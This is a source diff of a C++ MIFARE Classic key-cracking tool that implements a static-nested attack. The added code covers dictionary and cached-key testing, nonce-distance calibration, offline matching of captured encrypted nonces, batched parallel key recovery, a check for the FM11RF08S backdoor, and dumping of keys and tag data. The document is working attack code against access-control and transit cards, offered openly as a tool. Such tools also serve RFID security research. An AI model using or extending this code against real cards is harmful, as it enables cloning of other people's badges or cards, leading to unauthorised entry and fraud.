@@ -7,31 +7,114 @@
 #include "pwn_host.h"
 
 #include "common/mifare_dumper.h"
+#include "common/mifare_key_tester.h"
 #include "common/static_nested.h"
+#include "common/static_nested_solver.h"
+
+#include "bounded_queue.h"
 #include "utility.h"
 
+#include <array>
+#include <cerrno>
+#include <csignal>
 #include <filesystem>
 #include <fstream>
 
+#ifndef _WIN32
+#include <fcntl.h>
+#include <unistd.h>
+#endif
+
 namespace nfcpp {
 
 using namespace mifare;
 using namespace util;
 
+namespace {
+
+// SIGUSR1 writes 1 into it and a stop writes 0, the thread printing the frame
+// stats blocks on the other end. A write is all a signal handler may do.
+std::array<int, 2> frame_stats_pipe{-1, -1};
+
+void wake_frame_stats(char byte) {
+#ifdef SIGUSR1
+    auto saved = errno;
+    [[maybe_unused]] auto ret = write(frame_stats_pipe[1], &byte, 1);
+    errno = saved;
+#endif
+}
+
+} // namespace
+
+void install_frame_stats_signal() {
+#ifdef SIGUSR1
+    if (pipe(frame_stats_pipe.data()) < 0) {
+        throw std::runtime_error("Can't create pipe.");
+    }
+    // A full pipe drops the signal rather than blocking the handler.
+    fcntl(frame_stats_pipe[1], F_SETFL, O_NONBLOCK);
+    std::signal(SIGUSR1, [](int) { wake_frame_stats(1); });
+#endif
+}
+
 void PwnHost::run() {
-    discover_tag();
-    prepare();
-    if (!no_unknown_keys()) {
-        test_static_nonce();
-        while (!m_sectors_unknown_key_a.empty()) {
-            perform(*m_sectors_unknown_key_a.begin(), MifareKey::A);
-        }
-        while (!m_sectors_unknown_key_b.empty()) {
-            perform(*m_sectors_unknown_key_b.begin(), MifareKey::B);
+    // kill -USR1 <pid> prints the frame stats so far.
+    std::jthread frame_stats_on_demand;
+#ifdef SIGUSR1
+    if (m_args.frame_stats && frame_stats_pipe[0] >= 0) {
+        frame_stats_on_demand = std::jthread([this](std::stop_token token) {
+            std::stop_callback wake(token, [] { wake_frame_stats(0); });
+            for (char byte; !token.stop_requested();) {
+                auto size = read(frame_stats_pipe[0], &byte, 1);
+                if (size < 0 && errno == EINTR) continue;
+                if (size <= 0) break;
+                // A 0 left over from the stop of an earlier run is skipped.
+                if (byte && !token.stop_requested()) m_frame_stats.print();
+            }
+        });
+    }
+#endif
+
+    load_dictionary();
+    try {
+        discover_tag();
+        m_static_nonce = has_static_nonce();
+        prepare();
+        if (!no_unknown_keys()) {
+            test_static_nonce();
+            calibrate_nonce_distance();
+            check_dictionary_offline();
+            if (m_args.batch) perform_batched();
+            // Also whatever the batch could not crack.
+            while (!m_sectors_unknown_key_a.empty()) {
+                perform(*m_sectors_unknown_key_a.begin(), MifareKey::A);
+            }
+            while (!m_sectors_unknown_key_b.empty()) {
+                perform(*m_sectors_unknown_key_b.begin(), MifareKey::B);
+            }
         }
+        dump_keys();
+        dump();
+    } catch (const TagLostError&) {
+        util::emit_event(m_events, "tag_lost");
+        if (m_args.frame_stats) m_frame_stats.print();
+        throw;
+    }
+    if (m_args.frame_stats) m_frame_stats.print();
+    util::emit_event(m_events, "done", {{"keys", m_keychain.size()}});
+}
+
+void PwnHost::load_dictionary() {
+    if (!m_args.no_default_keys) m_dictionary.add(default_keys);
+    m_dictionary.add(m_args.user_keys);
+    if (m_site_keys) m_dictionary.add(m_site_keys->keys());
+    for (auto& path : m_args.dictionaries) {
+        m_dictionary.load(path);
+    }
+    m_dictionary.dedup();
+    if (!m_args.dictionaries.empty()) {
+        std::println("Loaded {} dictionary keys.", m_dictionary.size());
     }
-    dump_keys();
-    dump();
 }
 
 void PwnHost::discover_tag() {
@@ -71,16 +154,68 @@ void PwnHost::discover_tag() {
     }
 
     m_card = *card;
+
+    // Copies of the tag, which may have UIDs of their own.
+    for (auto i : std::views::iota(0uz, m_helper_initiators.size())) {
+        auto helper_card = m_helper_initiators[i]->select_card();
+        if (!helper_card) {
+            throw std::runtime_error(
+                std::format("No tag found on helper reader {}.", i + 1)
+            );
+        }
+        std::println(
+            "Helper reader {} selected UID {}.",
+            i + 1,
+            hex(std::byteswap(helper_card->nuid))
+        );
+        m_helpers.emplace_back(m_helper_initiators[i].get(), *helper_card);
+    }
 }
 
 void PwnHost::prepare() {
-    // Test default keys
-    const auto test_result = m_initiator.test_default_keys(
-        m_card,
-        m_args.type,
-        m_args.user_keys,
-        m_args.no_default_keys
-    );
+    std::vector<SectorKey> test_result;
+    for (auto block : start_block_sequence(m_args.type)) {
+        test_result.emplace_back(block_to_sector(block));
+    }
+    if (m_key_cache) test_cached_keys(test_result);
+
+    // Test default keys, on a static nonce tag only until the first hit, the
+    // rest of the dictionary is checked offline afterwards. So one cached key
+    // is as good.
+    auto complete = std::ranges::all_of(test_result, [](auto& skey) {
+        return skey.key_a && skey.key_b;
+    });
+    auto any_key = std::ranges::any_of(test_result, [](auto& skey) {
+        return skey.key_a || skey.key_b;
+    });
+    if (!complete && !(m_static_nonce && any_key)) {
+        MifareClassicInitiator::SectorKeys site_keys;
+        if (m_site_keys && !m_site_keys->empty()) {
+            site_keys = [this](std::uint8_t sector) {
+                return m_site_keys->ranked(sector);
+            };
+        }
+        util::emit_event(m_events, "phase_start", {{"phase", "dictionary"}});
+        auto defaults = m_initiator.test_default_keys(
+            m_card,
+            m_args.type,
+            m_args.user_keys,
+            m_args.no_default_keys,
+            m_static_nonce,
+            site_keys
+        );
+        util::emit_event(m_events, "phase_end", {{"phase", "dictionary"}});
+        auto merge = [&](SectorKey& skey, MifareKey key_type, auto found) {
+            auto& slot = key_type == MifareKey::A ? skey.key_a : skey.key_b;
+            if (slot || !found) return;
+            slot = found;
+            report_key(skey.sector, key_type, *found, "dictionary");
+        };
+        for (auto [skey, found] : std::views::zip(test_result, defaults)) {
+            merge(skey, MifareKey::A, found.key_a);
+            merge(skey, MifareKey::B, found.key_b);
+        }
+    }
 
     // Try get one valid key
     auto valid_key =
@@ -141,25 +276,61 @@ void PwnHost::prepare() {
     );
 }
 
-void PwnHost::test_static_nonce() {
-    std::array<uint32_t, 3> nt;
-    MifareCrypto1Cipher     cipher;
-    for (auto i : std::views::iota(0uz, nt.size())) {
-        if (!m_initiator.select_card(m_card.uid)) {
-            throw std::runtime_error("Tag moved out");
+void PwnHost::test_cached_keys(std::vector<SectorKey>& sectors) {
+    auto cached = m_key_cache->find(m_card);
+    if (cached.empty()) return;
+
+    Crypto1State    cipher{};
+    MifareKeyTester tester(m_initiator, m_card);
+    auto            total     = 0uz;
+    auto            confirmed = 0uz;
+    auto impl = [&](SectorKey& skey, MifareKey key_type, auto cached_key) {
+        if (!cached_key) return;
+        total++;
+        // The tag may have been rewritten since.
+        auto block = sector_to_block(skey.sector);
+        if (!tester.test_key(cipher, key_type, block, *cached_key)) return;
+        (key_type == MifareKey::A ? skey.key_a : skey.key_b) = cached_key;
+        report_key(skey.sector, key_type, *cached_key, "cache");
+        confirmed++;
+    };
+    for (auto& skey : sectors) {
+        auto it = std::ranges::find(cached, skey.sector, &SectorKey::sector);
+        if (it == cached.end()) continue;
+        impl(skey, MifareKey::A, it->key_a);
+        impl(skey, MifareKey::B, it->key_b);
+    }
+    std::println("{} of {} cached keys are still valid.", confirmed, total);
+}
+
+bool PwnHost::has_static_nonce() {
+    std::array<uint32_t, 3> nt{};
+    Crypto1State            cipher{};
+    for (auto& nonce : nt) {
+        // No nonce means the tag left before sending one, so ask again.
+        for (auto tries = 0uz; !nonce && tries < 3; tries++) {
+            m_initiator.reacquire_card(m_card);
+            try {
+                // The nonce comes before the key matters, any key will do.
+                m_initiator
+                    .auth(cipher, MifareKey::A, m_card, 0, 0, false, nonce);
+            } catch (const NfcException& e) {
+                if (e.error_code() != NfcError::RFTRANS
+                    && e.error_code() != NfcError::INVARG) {
+                    throw;
+                }
+            }
         }
-        m_initiator.auth(
-            cipher,
-            m_valid_key.type,
-            m_card,
-            m_valid_key.block,
-            m_valid_key.key,
-            false,
-            nt[i]
-        );
     }
-    if (std::ranges::adjacent_find(nt, std::ranges::not_equal_to{})
-        != nt.end()) {
+    // A tag that never answered tells nothing about its nonces.
+    if (std::ranges::find(nt, 0u) != nt.end()) return false;
+    return std::ranges::adjacent_find(nt, std::ranges::not_equal_to{})
+        == nt.end();
+}
+
+void PwnHost::test_static_nonce() {
+    // Told by has_static_nonce() already, before the keys were tested.
+    if (!m_static_nonce) {
         throw std::runtime_error(
             check_fm11rf08s_backdoor()
                 ? "This tag has fm11rf08s backdoor, try nfc-isen?"
@@ -168,12 +339,141 @@ void PwnHost::test_static_nonce() {
     }
 }
 
-bool PwnHost::check_fm11rf08s_backdoor() {
-    if (!m_initiator.select_card(m_card.uid)) {
-        throw std::runtime_error("Tag moved out");
+void PwnHost::calibrate_nonce_distance() {
+    util::emit_event(m_events, "phase_start", {{"phase", "calibration"}});
+
+    // Measured once, every sector of the tag shares the same PRNG timing.
+    m_calibration = static_nested::calibrate(
+        m_initiator,
+        m_card,
+        m_valid_key.block,
+        m_valid_key.type,
+        m_valid_key.key,
+        2 + m_args.extra_nonces,
+        m_args.calibration_samples
+    );
+
+    std::string dists;
+    for (auto dist : m_calibration.distances) {
+        dists += std::format("{}{}", dists.empty() ? "" : ", ", dist);
+    }
+    std::println(
+        "Nonce distances: {} (confidence {:.0f}%, {} samples)",
+        dists,
+        m_calibration.confidence * 100,
+        m_calibration.samples
+    );
+    util::emit_event(
+        m_events,
+        "phase_end",
+        {{"phase", "calibration"},
+         {"distances", dists},
+         {"confidence", m_calibration.confidence},
+         {"samples", m_calibration.samples}}
+    );
+    if (m_calibration.confidence < 0.5) {
+        std::println(
+            "!!! warning: the nonce distance is unstable, try a higher "
+            "--calibration-samples or keep the tag still."
+        );
     }
-    MifareCrypto1Cipher cipher;
-    std::uint32_t       nt{};
+}
+
+std::span<const EncryptedNonce>
+PwnHost::captured_nonces(std::uint8_t sector, MifareKey key_type) {
+    auto [it, inserted] = m_captures.try_emplace({sector, key_type});
+    if (!inserted) return it->second;
+
+    // Those of an interrupted sweep are as good and no trip to the tag.
+    std::optional<static_nested::SweepProgress> resumed;
+    if (m_checkpoint) {
+        resumed = m_checkpoint->find(m_card, sector_to_block(sector), key_type);
+    }
+    if (resumed) {
+        it->second = std::move(resumed->nt_encs);
+    } else {
+        std::println(
+            "Capturing Key{} of sector {}...",
+            key_type == MifareKey::A ? "A" : "B",
+            sector
+        );
+        it->second = static_nested::capture(
+            m_initiator,
+            m_card,
+            m_valid_key.block,
+            m_valid_key.type,
+            m_valid_key.key,
+            sector_to_block(sector),
+            key_type,
+            m_calibration,
+            attack_options()
+        );
+    }
+    return it->second;
+}
+
+void PwnHost::check_dictionary_offline() {
+    util::emit_event(
+        m_events,
+        "phase_start",
+        {{"phase", "dictionary_offline"}}
+    );
+
+    // No need to check what the reader already found.
+    m_dictionary.dedup(m_keychain);
+
+    std::set<std::uint64_t> matches;
+    auto impl = [&](const std::set<std::uint8_t>& sectors, MifareKey type) {
+        for (auto sector : sectors) {
+            matches.insert_range(static_nested::match_dictionary(
+                m_dictionary,
+                captured_nonces(sector, type),
+                m_card.nuid,
+                m_args.threads
+            ));
+        }
+    };
+    impl(m_sectors_unknown_key_a, MifareKey::A);
+    impl(m_sectors_unknown_key_b, MifareKey::B);
+    std::erase_if(matches, [&](auto key) { return m_keychain.contains(key); });
+
+    std::println(
+        "{} of {} dictionary keys match the captured nonces.",
+        matches.size(),
+        m_dictionary.size()
+    );
+    util::emit_event(
+        m_events,
+        "phase_end",
+        {{"phase", "dictionary_offline"},
+         {"keys", m_dictionary.size()},
+         {"matches", matches.size()}}
+    );
+    // The reader only confirms them.
+    for (auto key : matches) {
+        on_new_key(key);
+    }
+
+    // On a static nonce tag the reader stopped at the first key found, the
+    // other sectors are up to the captures. Until those can be trusted, the
+    // keys it would have tried there still go on air.
+    if (m_static_nonce) {
+        auto keys = m_keychain;
+        if (!trust_captures()) {
+            if (!m_args.no_default_keys) keys.insert_range(default_keys);
+            keys.insert_range(m_args.user_keys);
+            if (m_site_keys) keys.insert_range(m_site_keys->keys());
+        }
+        for (auto key : keys) {
+            if (!matches.contains(key)) on_new_key(key);
+        }
+    }
+}
+
+bool PwnHost::check_fm11rf08s_backdoor() {
+    m_initiator.reacquire_card(m_card);
+    Crypto1State  cipher{};
+    std::uint32_t nt{};
     try {
         m_initiator.auth(
             cipher,
@@ -196,6 +496,13 @@ bool PwnHost::check_fm11rf08s_backdoor() {
 
 void PwnHost::perform(std::uint8_t target_sector, MifareKey target_key_type) {
     std::println("Attacking sector {}...", target_sector);
+    util::emit_event(
+        m_events,
+        "phase_start",
+        {{"phase", "attack"},
+         {"sector", target_sector},
+         {"key_type", target_key_type == MifareKey::A ? "A" : "B"}}
+    );
     auto result = static_nested::execute(
         m_initiator,
         m_card,
@@ -204,8 +511,166 @@ void PwnHost::perform(std::uint8_t target_sector, MifareKey target_key_type) {
         m_valid_key.key,
         sector_to_block(target_sector),
         target_key_type,
-        m_args.force_detect_distance
+        m_calibration,
+        attack_options(),
+        captured_nonces(target_sector, target_key_type)
+    );
+    util::emit_event(
+        m_events,
+        "phase_end",
+        {{"phase", "attack"},
+         {"sector", target_sector},
+         {"key_type", target_key_type == MifareKey::A ? "A" : "B"},
+         {"success", result.success}}
     );
+    on_sector_cracked(target_sector, target_key_type, result);
+};
+
+void PwnHost::perform_batched() {
+    struct Job {
+        std::uint8_t                              sector;
+        MifareKey                                 key_type;
+        std::span<const EncryptedNonce>           nt_encs;
+        std::optional<std::vector<std::uint64_t>> candidates;
+        // Why the offline phase failed, e.g. out of memory.
+        std::string error;
+    };
+    std::vector<Job> jobs;
+    auto             options = attack_options();
+
+    // One quick pass over the tag (if the dictionary check did not already
+    // capture everything), nothing else needs it to stay still. Interrupted
+    // sweeps are left to perform(), which resumes them.
+    auto capture = [&](const std::set<std::uint8_t>& sectors, MifareKey type) {
+        for (auto sector : sectors) {
+            if (m_checkpoint
+                && m_checkpoint->find(m_card, sector_to_block(sector), type)) {
+                continue;
+            }
+            jobs.emplace_back(sector, type, captured_nonces(sector, type));
+        }
+    };
+    capture(m_sectors_unknown_key_a, MifareKey::A);
+    capture(m_sectors_unknown_key_b, MifareKey::B);
+    if (jobs.empty()) return;
+
+    // Split the cores between the recoveries, the reader tests whichever
+    // finishes first.
+    auto threads     = util::resolve_threads(m_args.threads);
+    auto concurrency = std::min(jobs.size(), threads);
+    options.threads  = std::max(1uz, threads / concurrency);
+
+    util::BoundedQueue<std::size_t> ready(jobs.size());
+
+    auto still_unknown = [&](const Job& job) {
+        return (job.key_type == MifareKey::A ? m_sectors_unknown_key_a
+                                             : m_sectors_unknown_key_b)
+            .contains(job.sector);
+    };
+
+    std::jthread offline([&](std::stop_token token) {
+        util::parallel_for(jobs.size(), concurrency, 1, [&](auto begin, auto) {
+            auto& job = jobs[begin];
+            try {
+                job.candidates = static_nested::recover_filtered_candidates(
+                    job.nt_encs,
+                    m_card.nuid,
+                    options,
+                    token
+                );
+            } catch (const std::exception& e) {
+                job.error = e.what();
+            }
+            // Even without candidates, the reader waits for every job.
+            ready.push(begin);
+        });
+    });
+
+    for (auto i = 0uz; i < jobs.size(); i++) {
+        auto& job = jobs[*ready.pop()];
+        // Found on the way, e.g. a key shared with another sector.
+        if (!still_unknown(job)) continue;
+        if (!job.error.empty()) {
+            // Left to the one by one attack, which has the cores to itself.
+            std::println(
+                "\r\033[2K!!! warning: offline phase of sector {} failed ({}), "
+                "attacking it later.",
+                job.sector,
+                job.error
+            );
+            continue;
+        }
+        if (!job.candidates) {
+            // Left to the one by one attack, which retries the capture.
+            std::println(
+                "\r\033[2KBad capture of sector {}, attacking it later.",
+                job.sector
+            );
+            continue;
+        }
+        std::println(
+            "\r\033[2KTesting {} candidate keys of sector {}...",
+            job.candidates->size(),
+            job.sector
+        );
+        auto key_type = job.key_type == MifareKey::A ? "A" : "B";
+        util::emit_event(
+            m_events,
+            "phase_start",
+            {{"phase", "attack"},
+             {"sector", job.sector},
+             {"key_type", key_type}}
+        );
+        auto result = static_nested::test_candidates(
+            m_initiator,
+            m_card,
+            sector_to_block(job.sector),
+            job.key_type,
+            *job.candidates,
+            options
+        );
+        util::emit_event(
+            m_events,
+            "phase_end",
+            {{"phase", "attack"},
+             {"sector", job.sector},
+             {"key_type", key_type},
+             {"success", result.success}}
+        );
+        if (!result.success) {
+            // Also left to the one by one attack, with a fresh capture.
+            std::println(
+                "\r\033[2KNo valid key found for sector {}, attacking it "
+                "later.",
+                job.sector
+            );
+            m_captures.erase({job.sector, job.key_type});
+            continue;
+        }
+        on_sector_cracked(job.sector, job.key_type, result);
+    }
+}
+
+StaticNestedOptions PwnHost::attack_options() const {
+    return {
+        .force_detect_distance = m_args.force_detect_distance,
+        .threads               = m_args.threads,
+        .extra_nonces          = m_args.extra_nonces,
+        .max_candidates        = m_args.max_candidates,
+        .max_retries           = m_args.max_retries,
+        .events                = m_events,
+        .checkpoint            = m_checkpoint.get(),
+        .candidate_cache       = m_candidate_cache.get(),
+        .dictionary            = &m_dictionary,
+        .helpers               = m_helpers,
+    };
+}
+
+void PwnHost::on_sector_cracked(
+    std::uint8_t              target_sector,
+    MifareKey                 target_key_type,
+    const StaticNestedResult& result
+) {
     if (!result.success) {
         throw std::runtime_error("\r\033[2KNo valid key found.");
     }
@@ -215,6 +680,7 @@ void PwnHost::perform(std::uint8_t target_sector, MifareKey target_key_type) {
         result.key,
         result.tested_key_count
     );
+    report_key(target_sector, target_key_type, result.key, "nested");
     auto& wait_to_erase = target_key_type == MifareKey::A
                             ? m_sectors_unknown_key_a
                             : m_sectors_unknown_key_b;
@@ -223,17 +689,13 @@ void PwnHost::perform(std::uint8_t target_sector, MifareKey target_key_type) {
     if (target_key_type == MifareKey::A) {
         on_key_a_found(target_sector, result.key);
     }
-};
+}
 
 std::optional<std::uint64_t>
 PwnHost::try_read_key_b(std::uint64_t key_a, std::uint8_t sector) {
-    if (!m_initiator.select_card(m_card.uid)) {
-        throw std::runtime_error("Tag moved out.");
-    }
-
     try {
-        auto                block = sector_to_block(sector);
-        MifareCrypto1Cipher cipher;
+        auto         block = sector_to_block(sector);
+        Crypto1State cipher{};
 
         // Convert to key block (+15 if Classic4K)
         if (block < 128) {
@@ -242,12 +704,15 @@ PwnHost::try_read_key_b(std::uint64_t key_a, std::uint8_t sector) {
             block += 15;
         }
 
-        m_initiator.auth(cipher, MifareKey::A, m_card, block, key_a, false);
-
-        auto data = m_initiator.read(cipher, block);
+        // Key A is known to be valid, a failed auth means a lost tag.
+        auto data = m_initiator.retry_on_loss(m_card, [&] {
+            m_initiator.reacquire_card(m_card);
+            m_initiator
+                .auth(cipher, MifareKey::A, m_card, block, key_a, false);
+            return m_initiator.read(cipher, block);
+        });
 
-        std::uint64_t ret{};
-        std::memcpy(&ret, data.data() + data.size() - 6, 6);
+        auto ret = get_key(std::span(data).last<6>());
 
         // Verify the key.
         if (!m_initiator.auth(cipher, MifareKey::B, m_card, block, ret, true)) {
@@ -255,6 +720,8 @@ PwnHost::try_read_key_b(std::uint64_t key_a, std::uint8_t sector) {
         }
 
         return ret;
+    } catch (const TagLostError&) {
+        throw;
     } catch (const std::runtime_error& e) {
         // CRC may fail, so catch runtime_error.
         return std::nullopt;
@@ -262,25 +729,38 @@ PwnHost::try_read_key_b(std::uint64_t key_a, std::uint8_t sector) {
 }
 
 void PwnHost::on_new_key(std::uint64_t key) {
-    MifareCrypto1Cipher cipher;
+    Crypto1State    cipher{};
+    MifareKeyTester tester(m_initiator, m_card);
     auto impl = [&](std::set<std::uint8_t>& sectors, MifareKey key_type) {
-        for (auto it = sectors.begin(); it != sectors.end();) {
-            if (m_initiator.test_key(
-                    cipher,
-                    key_type,
-                    m_card,
-                    sector_to_block(*it),
-                    key
-                )) {
+        // The sectors the key was found in on other tags of the site first.
+        auto order = std::vector(sectors.begin(), sectors.end());
+        if (m_site_keys) {
+            std::ranges::stable_sort(
+                order,
+                std::ranges::greater{},
+                [&](std::uint8_t sector) {
+                    return m_site_keys->hits(key, sector);
+                }
+            );
+        }
+        for (auto sector : order) {
+            // Captured nonces rule a wrong key out offline, once trusted.
+            auto capture = m_captures.find({sector, key_type});
+            if (trust_captures() && capture != m_captures.end()
+                && !static_nested::verify_key(key, capture->second, m_card.nuid)
+            ) {
+                continue;
+            }
+            auto block = sector_to_block(sector);
+            if (tester.test_key(cipher, key_type, block, key)) {
                 std::println(
                     "This key is also Key{} of sector {}.",
                     key_type == MifareKey::A ? "A" : "B",
-                    *it
+                    sector
                 );
+                report_key(sector, key_type, key, "shared");
                 m_keychain.emplace(key);
-                it = sectors.erase(it);
-            } else {
-                it++;
+                sectors.erase(sector);
             }
         }
     };
@@ -302,6 +782,32 @@ void PwnHost::on_key_a_found(std::uint8_t sector, std::uint64_t key) {
     }
 }
 
+void PwnHost::report_key(
+    std::uint8_t     sector,
+    MifareKey        key_type,
+    std::uint64_t    key,
+    std::string_view source
+) {
+    util::emit_event(
+        m_events,
+        "key_found",
+        {{"sector", sector},
+         {"key_type", key_type == MifareKey::A ? "A" : "B"},
+         {"key", std::format("{:012X}", key)},
+         {"source", source}}
+    );
+    if (m_key_cache) m_key_cache->add(m_card, sector, key_type, key);
+    // A real key that matches its capture proves the distance it was taken
+    // at.
+    auto capture = m_captures.find({sector, key_type});
+    if (capture != m_captures.end()
+        && static_nested::verify_key(key, capture->second, m_card.nuid)) {
+        m_captures_confirmed = true;
+    }
+    // A cached key was counted when it was found.
+    if (m_site_keys && source != "cache") m_site_keys->record(sector, key);
+}
+
 void PwnHost::dump_keys() {
     std::println("Key chain:");
     for (const auto key : m_keychain) {